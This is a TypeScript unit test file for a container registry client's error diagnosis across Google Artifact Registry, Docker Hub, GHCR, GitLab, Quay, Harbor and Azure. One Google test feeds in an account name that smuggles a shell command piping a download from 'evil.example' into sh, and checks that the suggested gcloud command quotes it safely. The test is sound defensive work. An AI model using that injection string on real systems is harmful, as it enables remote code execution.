import type { ServerResponse } from 'node:http';
import { describe, expect, test } from 'vitest';
import type { Advice } from '#lib/errors/slipway-error.ts';
import { RefusalError } from '#lib/oci/errors.ts';
import { diagnoseDockerHub } from '#lib/registries/docker-hub-diagnosis.ts';
import { diagnoseGoogle } from '#lib/registries/google-diagnosis.ts';
import { diagnoseOther } from '#lib/registries/other-diagnosis.ts';
import { startServer } from '#tests/unit/oci/hostile-server.ts';
import { failureOf, makeClient } from '#tests/unit/oci/test-client.ts';

/** One answer of a registry, as its documentation and its users' reports show it. */
type Said = readonly [status: number, body: object | string];

/** What a registry of that kind answers on the way to a manifest. Where nothing is said it lets pass. */
interface Transcript {
  readonly registry: string;
  readonly repository?: string;
  /** Basic instead of a token service. */
  readonly isBasic?: true;
  readonly token?: Said;
  readonly manifest?: Said;
  /** Null: without a secret. */
  readonly account?: string | null;
}

const errors = (code: string, message: string) => ({ errors: [{ code, message }] });

/** Pulls from a local server that answers so, with the registry client, and explains what that throws. */
async function explain(transcript: Transcript, diagnose: typeof diagnoseOther) {
  const { registry, repository = 'acme/app', account = 'ines' } = transcript;
  const server = await startServer((request, response) => {
    if (request.url?.startsWith('/token'))
      return send(response, transcript.token ?? [200, { token: 'bearer' }]);
    const bearer = `Bearer realm="${server.url}token",service="x"`;
    response.setHeader('www-authenticate', transcript.isBasic ? 'Basic realm="x"' : bearer);
    if (request.headers.authorization === undefined) {
      return send(response, [401, errors('UNAUTHORIZED', 'authentication required')]);
    }
    if (request.url === '/v2/') return send(response, [200, {}]);
    send(response, transcript.manifest ?? [200, {}]);
  });
  const credentials = account === null ? undefined : { username: account, password: 'password-1234' };
  const client = makeClient({ host: registry, url: server.url }, { credentials });
  const signal = new AbortController().signal;
  const error = await failureOf(
    (async () => {
      await client.authenticate({ repository, signal });
      await client.headManifest({ repository, target: '1', signal });
      await client.getManifest({ repository, target: '1', signal });
    })(),
  );
  if (!(error instanceof RefusalError)) throw error;
  const advice = diagnose(error, account ?? undefined);
  return { name: error.name, advice, shown: advice ?? error.advice };
}

function send(response: ServerResponse, [status, body]: Said): void {
  response.writeHead(status, { 'content-type': 'application/json' });
  response.end(typeof body === 'string' ? body : JSON.stringify(body));
}

/** Every text for people: the plain fact without a full stop, then sentences. */
function expectWords({ what, why, next }: Advice): void {
  expect(what).toMatch(/[^.\s]$/);
  expect(why).toMatch(/[.”]$/);
  expect(next).toMatch(/\.$/);
  expect(`${what} ${why} ${next}`).not.toMatch(/undefined|password-1234|[!]/);
}

describe('Google', () => {
  const registry = 'europe-west1-docker.pkg.dev';
  const repository = 'tidewater-prod/images/app';
  const resource = 'projects/tidewater-prod/locations/europe-west1/repositories/images';
  const account = 'slipway-pull@tidewater-prod.iam.gserviceaccount.com';
  const grant = (more: string) =>
    `gcloud artifacts repositories add-iam-policy-binding ${more} --member=serviceAccount:${account} --role=roles/artifactregistry.reader`;

  test.each<[string, Partial<Transcript>, string, string | RegExp, string | undefined]>([
    [
      'names the role that is missing, and the command that gives it',
      {
        manifest: [
          403,
          errors(
            'DENIED',
            `Permission "artifactregistry.repositories.downloadArtifacts" denied on resource "${resource}" (or it may not exist)`,
          ),
        ],
      },
      'AccessDeniedError',
      `${account} may not read images in project tidewater-prod, or it does not exist`,
      grant('images --project=tidewater-prod --location=europe-west1'),
    ],
    [
      'maps gcr.io to its repository',
      {
        registry: 'eu.gcr.io',
        repository: 'tidewater-prod/app',
        manifest: [403, errors('DENIED', 'Permission denied for "downloadArtifacts" (or it may not exist)')],
      },
      'AccessDeniedError',
      /may not read eu\.gcr\.io in project tidewater-prod/,
      grant('eu.gcr.io --project=tidewater-prod --location=europe'),
    ],
    [
      'reads projects of a domain',
      { repository: 'example.com/app/images/web', manifest: [403, errors('DENIED', 'denied')] },
      'AccessDeniedError',
      /may not read images in project example\.com:app/,
      grant('images --project=example.com:app --location=europe-west1'),
    ],
    [
      'says that the API is off',
      {
        manifest: [
          403,
          errors(
            'DENIED',
            'Artifact Registry API has not been used in project 254464063395 before or it is disabled. Enable it by visiting https://console.developers.google.com/apis/api/artifactregistry.googleapis.com/overview?project=254464063395 then retry.',
          ),
        ],
      },
      'AccessDeniedError',
      'The Artifact Registry API is off in project tidewater-prod',
      'gcloud services enable artifactregistry.googleapis.com --project=tidewater-prod',
    ],
    [
      'says that the project is gone',
      { manifest: [403, errors('DENIED', 'Project "projects/tidewater-prod" not found or deleted.')] },
      'AccessDeniedError',
      'Google has no project tidewater-prod',
      undefined,
    ],
    [
      'says that the repository is missing, where Google tells',
      { manifest: [404, errors('NAME_UNKNOWN', 'Repository "images" not found')] },
      'RepositoryUnknownError',
      'Project tidewater-prod has no repository images in europe-west1',
      'gcloud artifacts repositories list --project=tidewater-prod',
    ],
    [
      'says that gcr.io was never made',
      {
        registry: 'gcr.io',
        repository: 'tidewater-prod/app',
        manifest: [
          403,
          errors(
            'DENIED',
            'gcr.io repo does not exist. Creating on push requires the artifactregistry.repositories.createOnPush permission',
          ),
        ],
      },
      'AccessDeniedError',
      'Project tidewater-prod has no repository gcr.io in us',
      'gcloud artifacts repositories list --project=tidewater-prod',
    ],
    [
      'says that the upstream refuses',
      { manifest: [404, errors('MANIFEST_UNKNOWN', 'Failed to fetch from the upstream repository: 401')] },
      'ManifestUnknownError',
      'The upstream of images in project tidewater-prod does not give out this image',
      undefined,
    ],
    [
      'says that a perimeter is in the way',
      {
        manifest: [
          403,
          errors(
            'DENIED',
            'Request is prohibited by organization’s policy. vpcServiceControlsUniqueIdentifier: x',
          ),
        ],
      },
      'AccessDeniedError',
      /service perimeter/,
      undefined,
    ],
    [
      'says that billing is off',
      { manifest: [403, errors('DENIED', 'This API method requires billing to be enabled.')] },
      'AccessDeniedError',
      'Project tidewater-prod has no active billing',
      undefined,
    ],
    [
      'says that a tag is missing',
      { manifest: [404, errors('MANIFEST_UNKNOWN', 'Failed to fetch "1"')] },
      'ManifestUnknownError',
      `${registry}/${repository} has no tag 1`,
      undefined,
    ],
    [
      'asks for a secret',
      {
        account: null,
        manifest: [
          403,
          errors(
            'DENIED',
            `Unauthenticated request. Unauthenticated requests do not have permission "artifactregistry.repositories.downloadArtifacts" on resource "${resource}" (or it may not exist)`,
          ),
        ],
      },
      'AccessDeniedError',
      'images in project tidewater-prod may not be read without signing in, or does not exist',
      undefined,
    ],
    [
      'says what a path lacks',
      { repository: 'tidewater-prod/app', manifest: [403, errors('DENIED', 'denied')] },
      'AccessDeniedError',
      `${registry}/tidewater-prod/app names no image`,
      undefined,
    ],
    [
      'says that it does not take its own token',
      { manifest: [401, errors('UNAUTHORIZED', 'authentication failed')] },
      'AccessDeniedError',
      /does not take the access token/,
      undefined,
    ],
  ])('%s', async (_what, transcript, name, what, paste) => {
    const found = await explain({ registry, repository, account, ...transcript }, diagnoseGoogle);
    expect(found.name).toBe(name);
    expect(found.shown.what).toEqual(typeof what === 'string' ? what : expect.stringMatching(what));
    expect(found.shown.paste?.text).toBe(paste);
    expectWords(found.shown);
  });

  test('quotes a name that would be a command', async () => {
    const evil = "a';curl evil.example|sh;'@p.iam.gserviceaccount.com";
    const manifest: Said = [403, errors('DENIED', 'denied')];
    const { shown } = await explain({ registry, repository, account: evil, manifest }, diagnoseGoogle);
    expect(shown.paste?.text).toContain(
      `--member='serviceAccount:a'\\'';curl evil.example|sh;'\\''@p.iam.gserviceaccount.com' --role`,
    );
  });
});

describe('Docker Hub', () => {
  const registry = 'docker.io';
  test.each<[string, Partial<Transcript>, string, string | RegExp, RegExp]>([
    [
      'names both causes of a refused sign-in',
      { token: [401, { details: 'incorrect username or password' }] },
      'SignInRefusedError',
      'Docker Hub refused the sign-in of ines',
      /two-factor sign-in .*incorrect username or password/,
    ],
    [
      'knows an e-mail address when it sees one',
      { account: 'ines@tidewater.example', token: [401, { details: 'incorrect username or password' }] },
      'SignInRefusedError',
      'Docker Hub refused the sign-in',
      /Docker ID/,
    ],
    [
      'tells a token that has expired',
      { token: [401, { details: 'personal access token is expired' }] },
      'SignInRefusedError',
      'The access token of ines has expired',
      /does not take it any more/,
    ],
    [
      'tells a token without read permission',
      { manifest: [401, errors('UNAUTHORIZED', 'access token has insufficient scopes')] },
      'AccessDeniedError',
      'The access token may not read acme/app',
      /made for less/,
    ],
    [
      'names all causes where a repository is hidden or missing',
      { manifest: [401, errors('UNAUTHORIZED', 'authentication required')] },
      'AccessDeniedError',
      'acme/app does not exist on Docker Hub, or ines may not read it',
      /on purpose answers the same/,
    ],
    [
      'names both causes to whoever did not sign in',
      { account: null, manifest: [401, errors('UNAUTHORIZED', 'authentication required')] },
      'AccessDeniedError',
      'acme/app does not exist on Docker Hub, or is private',
      /without signing in/,
    ],
    [
      'knows that official images are public',
      {
        account: null,
        repository: 'library/pyhton',
        manifest: [401, errors('UNAUTHORIZED', 'authentication required')],
      },
      'AccessDeniedError',
      'pyhton does not exist on Docker Hub, or is private',
      /official images/,
    ],
    [
      'says that a tag is missing, which it tells to those alone who may read',
      { manifest: [404, errors('MANIFEST_UNKNOWN', 'manifest unknown')] },
      'ManifestUnknownError',
      'docker.io/acme/app has no tag 1',
      /never pushed/,
    ],
  ])('%s', async (_what, transcript, name, what, why) => {
    const { shown, ...found } = await explain({ registry, ...transcript }, diagnoseDockerHub);
    expect(found.name).toBe(name);
    expect(shown.what).toEqual(typeof what === 'string' ? what : expect.stringMatching(what));
    expect(shown.why).toMatch(why);
    expectWords(shown);
  });
});

describe('other registries', () => {
  test.each<[string, Transcript, string, string | RegExp, RegExp]>([
    [
      'GHCR refuses a token that it does not know as it refuses a package',
      { registry: 'ghcr.io', token: [403, errors('DENIED', 'denied')] },
      'AccessDeniedError',
      'GitHub does not give acme/app to ines, or it does not exist',
      /wrong, expired or revoked, it lacks read:packages/,
    ],
    [
      'GHCR tells a token without its scope',
      {
        registry: 'ghcr.io',
        manifest: [
          403,
          errors('DENIED', 'permission_denied: The token provided does not match expected scopes.'),
        ],
      },
      'AccessDeniedError',
      'The token of ines may not read packages',
      /read:packages/,
    ],
    [
      'GHCR refuses a sign-in',
      { registry: 'ghcr.io', token: [401, errors('UNAUTHORIZED', 'authentication required')] },
      'SignInRefusedError',
      'GitHub refused the sign-in',
      /does not say which/,
    ],
    [
      'GHCR to whoever did not sign in',
      {
        registry: 'ghcr.io',
        account: null,
        token: [403, errors('DENIED', 'requested access to the resource is denied')],
      },
      'AccessDeniedError',
      'ghcr.io/acme/app may not be read, or does not exist',
      /nobody without credentials/,
    ],
    [
      'GitLab refuses a sign-in with 401',
      {
        registry: 'registry.gitlab.com',
        token: [
          401,
          errors(
            'UNAUTHORIZED',
            'HTTP Basic: Access denied. If a password was provided for Git authentication, …',
          ),
        ],
      },
      'SignInRefusedError',
      'GitLab refused the sign-in of ines',
      /read_registry/,
    ],
    [
      'GitLab refuses a sign-in with 403, at a host of one’s own',
      {
        registry: 'registry.tidewater.example:5050',
        token: [403, errors('DENIED', 'HTTP Basic: Access denied')],
      },
      'AccessDeniedError',
      'GitLab refused the sign-in of ines',
      /two-factor/,
    ],
    [
      'GitLab hides a project',
      { registry: 'registry.gitlab.com', token: [403, errors('DENIED', 'access forbidden')] },
      'AccessDeniedError',
      'GitLab does not give acme/app to ines, or it does not exist',
      /no member/,
    ],
    [
      'Quay refuses a robot',
      {
        registry: 'quay.io',
        account: 'acme+ci',
        token: [
          401,
          errors('UNAUTHORIZED', 'Could not find robot with username: acme+ci and supplied password.'),
        ],
      },
      'SignInRefusedError',
      'Quay refused the sign-in of acme+ci',
      /Could not find robot/,
    ],
    [
      'Quay hides a repository',
      {
        registry: 'quay.io',
        manifest: [401, errors('UNAUTHORIZED', 'access to the requested resource is not authorized')],
      },
      'AccessDeniedError',
      'Quay does not give acme/app to ines, or it does not exist',
      /not authorized/,
    ],
    [
      'Harbor hides a repository',
      {
        registry: 'harbor.tidewater.example',
        account: 'robot$ci',
        manifest: [
          401,
          errors('UNAUTHORIZED', 'unauthorized to access repository: acme/app, action: pull: unauthorized'),
        ],
      },
      'AccessDeniedError',
      'harbor.tidewater.example does not give acme/app to robot$ci, or it does not exist',
      /may not pull/,
    ],
    [
      'Harbor knows no such project',
      {
        registry: 'harbor.tidewater.example',
        manifest: [404, errors('NOT_FOUND', 'project acme not found')],
      },
      'ManifestUnknownError',
      'harbor.tidewater.example has no such project for acme/app',
      /project acme not found/,
    ],
    [
      'Harbor knows no such repository',
      {
        registry: 'harbor.tidewater.example',
        manifest: [404, errors('NOT_FOUND', 'repository acme/app not found')],
      },
      'ManifestUnknownError',
      'harbor.tidewater.example has no such repository for acme/app',
      /never made/,
    ],
    [
      'Harbor knows no such artifact',
      {
        registry: 'harbor.tidewater.example',
        manifest: [404, errors('NOT_FOUND', 'artifact acme/app:1 not found')],
      },
      'ManifestUnknownError',
      'harbor.tidewater.example/acme/app has no tag 1',
      /artifact acme\/app:1 not found/,
    ],
    [
      'Azure’s admin user is off',
      {
        registry: 'tidewater.azurecr.io',
        account: 'tidewater',
        token: [
          401,
          errors(
            'UNAUTHORIZED',
            'authentication required, visit https://aka.ms/acr/authorization for more information.',
          ),
        ],
      },
      'SignInRefusedError',
      'Azure refused the sign-in of tidewater',
      /admin user, which is off unless/,
    ],
    [
      'Azure’s token lacks its scope map',
      {
        registry: 'tidewater.azurecr.io',
        manifest: [
          401,
          errors(
            'UNAUTHORIZED',
            'authentication required, visit https://aka.ms/acr/authorization for more information.',
          ),
        ],
      },
      'AccessDeniedError',
      'Azure does not give acme/app to ines, or it does not exist',
      /AcrPull/,
    ],
    [
      'Azure’s firewall',
      {
        registry: 'tidewater.azurecr.io',
        token: [
          403,
          errors(
            'DENIED',
            'client with IP "203.0.113.7" is not allowed access. Refer https://aka.ms/acr/firewall',
          ),
        ],
      },
      'AccessDeniedError',
      'tidewater.azurecr.io does not let this server’s address in',
      /firewall/,
    ],
    [
      'a plain registry with a wrong password',
      {
        registry: 'registry.tidewater.example',
        isBasic: true,
        manifest: [401, errors('UNAUTHORIZED', 'authentication required')],
      },
      'SignInRefusedError',
      'registry.tidewater.example refused the sign-in',
      /wrong, expired or revoked/,
    ],
    [
      'a proxy’s page in a registry’s place',
      { registry: 'registry.tidewater.example', manifest: [403, '<html><h1>Forbidden</h1></html>'] },
      'AccessDeniedError',
      'registry.tidewater.example/acme/app may not be read, or does not exist',
      /gives the same answer/,
    ],
  ])('%s', async (_what, transcript, name, what, why) => {
    const { shown, ...found } = await explain(transcript, diagnoseOther);
    expect(found.name).toBe(name);
    expect(shown.what).toEqual(typeof what === 'string' ? what : expect.stringMatching(what));
    expect(shown.why).toMatch(why);
    expectWords(shown);
  });
});
